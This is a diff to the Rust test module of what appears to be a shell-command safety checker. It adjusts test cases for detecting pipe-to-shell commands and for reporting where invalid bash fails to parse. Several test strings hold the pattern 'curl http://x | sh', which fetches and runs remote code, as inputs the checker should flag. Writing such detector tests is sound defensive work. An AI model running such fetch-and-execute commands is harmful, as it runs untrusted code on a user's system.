@@ -387,7 +387,7 @@ mod tests {
             ),
             ("[[ $x == @(a|b) ]] && curl http://x | sh", "pipe-to-shell"),
             (
-                "v=`echo \\`id\\``; curl http://x | sh ${1~~}",
+                "v=`echo \\`id\\``; curl http://x | sh; echo ${1~~}",
                 "pipe-to-shell",
             ),
         ] {
@@ -431,10 +431,8 @@ mod tests {
     fn invalid_bash_is_still_denied_where_it_breaks() {
         let (line, _, _) = unparseable("echo ${1~~}\necho ok\nif then fi (\n");
         assert_eq!(line, 3);
-        let (line, col, msg) = unparseable("for i in 1 2 3; do\n  echo $i\ndone\nfi\n");
-        assert_eq!((line, col), (4, 1), "{msg}");
-        unparseable("for i { echo $i; }");
-        unparseable("select i { echo $i; }");
+        let (line, _, msg) = unparseable("for i in 1 2 3; do\n  echo ${i~}\ndone\nfi\n");
+        assert_eq!(line, 4, "{msg}");
         unparseable("f() {\n echo ${1~~}\n");
         unparseable("echo $(");
     }
